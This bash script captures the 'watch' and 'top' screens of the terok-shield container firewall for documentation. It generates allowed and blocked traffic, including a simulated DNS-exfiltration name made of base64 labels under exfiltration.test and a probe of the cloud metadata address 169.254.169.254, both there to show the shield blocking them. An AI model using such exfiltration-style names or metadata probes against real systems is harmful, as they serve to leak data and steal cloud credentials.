#!/bin/bash
# The screens of `watch` and `top` for docs/, as a terminal has them: runs in the bed as the user whose podman it is, with terok-shield on the PATH.
#
#   screens.sh IMAGE FOLDER     writes FOLDER/watch and FOLDER/top, text with the terminal's colours
#
# The container does a few things of each kind: names that are allowed and others, connections that are blocked, a download that goes on. tmux is the terminal.
set -eu
image=$1 folder=$2
name=web
work=$(mktemp -d)
export TEROK_SHIELD_STATE_DIR=$work/state TEROK_SHIELD_CONFIG_DIR=$work/configuration TERM=tmux-256color
trap 'tmux -L screens kill-server 2>/dev/null; podman rm -f -t 0 "$name" >/dev/null 2>&1; rm -rf "$work"' EXIT
mkdir -p "$work/configuration/profiles"
printf '%s\n' allowed.test both.test many.test >"$work/configuration/profiles/shown.txt"
terminal() { tmux -L screens -f /dev/null new-session -d -s "$1" -x "$2" -y "$3" "$4"; }	# NAME COLUMNS LINES COMMAND
inside() { podman exec "$name" "$@" >/dev/null 2>&1 </dev/null || true; }
get() { for url; do inside timeout 3 wget -q -O- "http://$url"; done; }

terok-shield run "$name" --profiles shown -- -d "$image" sleep 600 >/dev/null
terminal watch 96 22 "terok-shield watch $name"
terminal full 96 22 "terok-shield top $name"
sleep 1
get allowed.test/ both.test/ n1.many.test/ n7.many.test/
inside sh -c 'wget -q -O /dev/null http://allowed.test/cgi-bin/clock &'
get other.test/ tracker.other.test/ c2VjcmV0LWRhdGEtaW4tYS1sYWJlbA.c2VjcmV0LWRhdGEtaW4tYS1sYWJlbA.exfiltration.test/
get 203.0.113.20/ '[2001:db8:1::20]:8080/' 169.254.169.254/
terok-shield allow "$name" 203.0.113.20 >/dev/null
get 203.0.113.20/
for _ in 1 2 3 4 5 6; do get other.test/; done
inside nslookup -type=txt example.other.test
terok-shield down "$name" >/dev/null
terok-shield up "$name" >/dev/null
sleep 7	# the activity is written every five seconds
tmux -L screens send-keys -t full Tab Down
sleep 0.5
for screen in watch full; do
	tmux -L screens capture-pane -e -N -p -t $screen >"$work/$screen"
done
install -m 644 "$work/watch" "$folder/watch"
install -m 644 "$work/full" "$folder/top"
